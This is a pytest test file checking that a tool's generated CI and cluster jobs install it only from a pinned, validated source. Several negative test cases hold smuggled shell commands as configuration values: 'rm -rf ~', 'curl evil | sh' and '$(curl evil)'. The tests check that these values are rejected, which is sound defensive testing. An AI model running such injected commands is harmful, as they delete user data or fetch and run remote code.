"""Generated jobs and cluster Jobs install the project's lock, the project with its extras, and
torchlane at the version that generated them from a configured source: never a bare name."""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

import torchlane
from torchlane.ci.common import install_commands
from torchlane.ci.github import github_workflow
from torchlane.ci.gitlab import gitlab_pipeline
from torchlane.cluster.pods import install_script
from torchlane.config.settings import TorchlaneConfig

VERSION = torchlane.__version__
SOURCES = {
    "lock": None,
    "index": "https://pkgs.acme.example/simple",
    "wheel": f"https://files.acme.example/torchlane-{VERSION}-py3-none-any.whl",
    "git": "git+https://git.acme.example/tools/torchlane",
}


def _config(**ci: object) -> TorchlaneConfig:
    return TorchlaneConfig.model_validate({"ci": ci})


def _strings(document: object) -> str:
    """Every string of a document (scripts, steps), one per line, as the platform reads them."""
    if isinstance(document, dict):
        return "\n".join(_strings(v) for v in document.values())
    if isinstance(document, list):
        return "\n".join(_strings(v) for v in document)
    return document if isinstance(document, str) else ""


def _pip_installs(text: str) -> list[list[str]]:
    """The arguments of every `pip install` in a script, as the shell splits them."""
    found = []
    for line in text.splitlines():
        for part in line.split(";"):
            if "pip install" in part:
                words = shlex.split(part.split("pip install", 1)[1].split("||")[0].strip())
                found.append([w for w in words if w not in ("fi", "then")])
    return found


def _allowed(arguments: list[str]) -> bool:
    if arguments[:1] in (["-r"], ["-e"]):
        return True
    if arguments[:1] == ["--index-url"]:
        return arguments[2:] == [f"torchlane=={VERSION}"]
    return len(arguments) == 1 and arguments[0].startswith(("https://", "torchlane @ git+"))


@pytest.mark.parametrize("source", list(SOURCES))
def test_no_job_installs_a_bare_name_from_an_index(source: str) -> None:
    config = _config(torchlane_source=SOURCES[source], gpu_runner_labels=["gpu"])
    documents = {
        "github": _strings(yaml.safe_load(yaml.safe_dump(github_workflow(config)))),
        "gitlab": _strings(yaml.safe_load(yaml.safe_dump(gitlab_pipeline(config)))),
        "cluster": "\n".join(install_script(config)),
    }
    for name, text in documents.items():
        installs = _pip_installs(text)
        assert installs, name
        for arguments in installs:
            assert _allowed(arguments), (name, arguments)
        assert "--upgrade pip" not in text, name
        assert f"torchlane, version {VERSION}" in text, name
    commands = "\n".join(install_commands(config))
    assert "pip install -e '.[dev]'" in commands
    if source == "git":
        assert f"torchlane @ git+https://git.acme.example/tools/torchlane@v{VERSION}" in commands
    if source == "index":
        assert f"--index-url https://pkgs.acme.example/simple torchlane=={VERSION}" in commands


def test_extras_and_lock_are_quoted_and_validated() -> None:
    config = TorchlaneConfig.model_validate(
        {"ci": {"install_extras": ["dev", "ml"]}, "env": {"lock": "locks/ci lock.txt"}}
    )
    commands = install_commands(config)
    assert "pip install -r 'locks/ci lock.txt'" in commands[0]
    assert "pip install -e '.[dev,ml]'" in commands[1]
    script = "\n".join(commands)
    assert subprocess.run(["sh", "-n", "-c", script], check=False).returncode == 0
    for bad in (
        {"install_extras": ["dev]; rm -rf ~; echo ["]},
        {"torchlane_source": "https://x.example/simple; curl evil | sh"},
        {"torchlane_source": "pkgs.acme.example/simple"},
    ):
        with pytest.raises(ValueError, match=r"install_extras|torchlane_source"):
            _config(**bad)


def test_a_bad_source_in_the_configuration_is_one_clear_error(tmp_path: Path, cli) -> None:
    subprocess.run(["git", "init", "--quiet", str(tmp_path)], check=True)
    (tmp_path / ".torchlane.toml").write_text('[ci]\ntorchlane_source = "$(curl evil)"\n')
    result = cli(["ci", "generate", "--provider", "gitlab"], cwd=tmp_path)
    assert result.code != 0
    assert "torchlane_source" in result.err
    assert not (tmp_path / ".gitlab-ci.yml").exists()


def _version_check(config: TorchlaneConfig) -> str:
    return install_commands(config)[-1]


def test_the_version_check_passes_with_this_torchlane_and_names_the_fix_otherwise(
    tmp_path: Path,
) -> None:
    check = _version_check(_config())
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "python").symlink_to(sys.executable)
    src = str(Path(torchlane.__file__).parents[1])
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "PYTHONPATH": src}
    ok = subprocess.run(["sh", "-c", check], env=env, capture_output=True, text=True, check=False)
    assert ok.returncode == 0, ok.stderr
    # Another torchlane: a python whose `-m torchlane --version` prints an older version.
    (bin_dir / "python").unlink()
    (bin_dir / "python").write_text("#!/bin/sh\necho 'torchlane, version 0.0.1'\n")
    (bin_dir / "python").chmod(0o755)
    old = subprocess.run(["sh", "-c", check], env=env, capture_output=True, text=True, check=False)
    assert old.returncode == 1
    assert (
        f"torchlane {VERSION} (the version that generated this file) is not installed" in old.stderr
    )
    assert f"pin torchlane=={VERSION} in requirements.lock" in old.stderr


def test_unknown_source_shapes_are_refused_by_settings() -> None:
    with pytest.raises(ValueError, match="torchlane_source"):
        _config(torchlane_source="ftp://x")
